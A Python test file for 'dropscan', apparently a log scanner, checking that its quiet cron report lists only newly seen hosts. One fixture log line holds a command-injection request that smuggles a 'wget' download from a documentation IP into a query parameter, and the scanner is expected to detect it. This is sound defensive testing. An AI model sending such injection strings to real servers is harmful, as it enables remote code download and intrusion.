"""``report --state --quiet``: the nightly cron report says only what is new, and nothing at all
when nothing is."""

from __future__ import annotations

import json

from conftest import SAMPLE_LOGS
from dropscan.cli import app


def test_cron_report_only_new_findings(runner, tmp_path):
    log = tmp_path / "other_vhosts_access.log"
    log.write_bytes((SAMPLE_LOGS / "other_vhosts_access.log").read_bytes())
    state = tmp_path / "report.state"
    args = ["report", str(log), "--state", str(state), "--quiet", "-f", "json"]

    first = runner.invoke(app, [*args, "-o", str(tmp_path / "r1.json")])
    assert first.exit_code == 1, first.stdout
    hosts = {h["host"]: h for h in json.loads((tmp_path / "r1.json").read_text())["hosts"]}
    assert sorted(hosts) == ["api.example.com", "legacy.example.com"]

    quiet = runner.invoke(app, [*args, "-o", str(tmp_path / "r2.json")])
    assert (quiet.exit_code, quiet.stdout, quiet.stderr) == (0, "", "")
    assert not (tmp_path / "r2.json").exists()  # cron mails nothing

    with open(log, "ab") as fh:
        fh.write(
            b"new.example.com:80 198.51.100.5 - - [27/Nov/2026:11:00:00 +0000] "
            b'"GET /x?c=;wget%20http://203.0.113.77/z HTTP/1.1" 200 1 "-" "-"\n'
        )
    third = runner.invoke(app, [*args, "-o", str(tmp_path / "r3.json")])
    assert third.exit_code == 1
    rep = json.loads((tmp_path / "r3.json").read_text())
    assert [h["host"] for h in rep["hosts"]] == ["new.example.com"]
    assert [(d["host"], d["port"]) for d in rep["hosts"][0]["destinations"]] == [("203.0.113.77", 80)]
